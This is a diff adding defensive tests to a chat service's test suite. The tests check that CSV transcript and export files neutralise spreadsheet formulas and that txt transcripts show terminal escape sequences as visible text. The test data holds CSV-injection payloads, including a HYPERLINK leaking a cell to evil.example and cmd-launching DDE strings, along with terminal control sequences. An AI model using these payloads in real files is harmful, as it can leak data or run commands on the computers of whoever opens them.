@@ -6,7 +6,9 @@ import contextlib
 import csv
 import io
 import json
+import re
 import sqlite3
+import unicodedata
 import uuid
 from collections.abc import AsyncIterator, Callable
 from dataclasses import dataclass
@@ -309,6 +311,94 @@ async def test_csv_transcript_neutralises_formulas(server: Server, admin: Agent)
         for row in body:
             for cell in row:
                 assert not cell.startswith(("=", "+", "-", "@")), row
+    finally:
+        await end_chat(c)
+
+
+# Payloads from public CSV-injection lists, hidden behind each separator a spreadsheet may be
+# told to split on (comma, semicolon, tab) or behind a line break, quotes and blanks.
+SPLIT_PAYLOADS = [
+    "Thanks;=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for your refund\")",
+    "ok\t=cmd|' /C calc'!A0",
+    "see below\r\n@SUM(1+1)*cmd|' /C calc'!A0",
+    "price, -2+3+cmd|' /C calc'!A0",
+    "note; \"=1+1\"",
+    "\uff1dcmd|' /C calc'!A0",  # a full-width equals sign
+    "+1;+2",
+]
+SIGNS = ("=", "+", "-", "@")
+
+
+def _spreadsheet_cells(text: str) -> list[str]:
+    """Every cell a spreadsheet could make of the CSV text: read properly with each separator
+    an import dialog offers, and split naively (lines first, quotes ignored) as some do."""
+    cells = []
+    for delimiter in (",", ";", "\t"):
+        cells += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
+                  for cell in row]
+    for line in text.splitlines():
+        cells += re.split(r"[,;\t]", line)
+    return cells
+
+
+def _runs_as_formula(cell: str) -> bool:
+    shown = unicodedata.normalize("NFKC", cell).lstrip(' "\t\r\n\u00a0')
+    return shown.startswith(SIGNS)
+
+
+async def test_csv_neutralises_formulas_behind_every_separator(server: Server,
+                                                              admin: Agent) -> None:
+    """No cell a spreadsheet can make of a CSV transcript or export starts with a formula sign,
+    however it splits: payloads hidden after ; tab, a comma or a line break stay text."""
+    tag = _uid()
+    c = await start_chat(server, *[f"{p} {tag}" for p in SPLIT_PAYLOADS],
+                         name=f"Eve;=cmd|' /C calc'!A0 {tag}")
+    try:
+        transcript = await admin.http.get(
+            f"/api/admin/conversations/{c.conversation_id}/transcript", params={"format": "csv"})
+        export = await admin.http.get("/api/admin/export", params={"format": "csv"})
+        for response in (transcript, export):
+            assert response.status_code == 200
+            assert tag in response.text
+            bad = [cell for cell in _spreadsheet_cells(response.text) if _runs_as_formula(cell)]
+            assert bad == [], bad
+        # Neutralising adds an apostrophe and removes nothing: the words are all still there.
+        rows = list(csv.reader(io.StringIO(transcript.text, newline="")))
+        bodies = [r[5] for r in rows[1:]]
+        assert [b.replace("'", "") for b in bodies] == [
+            f"{p} {tag}".replace("'", "") for p in SPLIT_PAYLOADS]
+        # The JSON transcript keeps the exact text.
+        as_json = await admin.http.get(
+            f"/api/admin/conversations/{c.conversation_id}/transcript", params={"format": "json"})
+        assert [m["body"] for m in as_json.json()["messages"]] == [
+            f"{p} {tag}" for p in SPLIT_PAYLOADS]
+    finally:
+        await end_chat(c)
+
+
+async def test_txt_transcript_carries_no_terminal_escape_sequences(server: Server,
+                                                                   admin: Agent) -> None:
+    """Escape sequences in a message (clear the screen, rewrite a line, set the title, a C1 CSI)
+    reach a txt transcript as visible characters, so `cat` of it cannot drive a terminal."""
+    tag = _uid()
+    payloads = [f"\x1b[2J\x1b[1;1Hall is well {tag}", f"fine\r\x1b[Kerased {tag}",
+                f"\x1b]0;pwned\x07title {tag}", f"\x9b31mred\x7f {tag}"]
+    c = await start_chat(server, *payloads)
+    try:
+        response = await admin.http.get(
+            f"/api/admin/conversations/{c.conversation_id}/transcript", params={"format": "txt"})
+        assert response.status_code == 200
+        text = response.text
+        assert tag in text
+        controls = [ch for ch in text if (ord(ch) < 0x20 and ch not in "\n\t")
+                    or 0x7F <= ord(ch) < 0xA0]
+        assert controls == [], controls
+        assert f"\u241b[2J\u241b[1;1Hall is well {tag}" in text  # shown, not obeyed
+        assert f"\u241b]0;pwned\u2407title {tag}" in text
+        # The other formats keep the exact text.
+        as_json = await admin.http.get(
+            f"/api/admin/conversations/{c.conversation_id}/transcript", params={"format": "json"})
+        assert [m["body"] for m in as_json.json()["messages"]] == payloads
     finally:
         await end_chat(c)
 
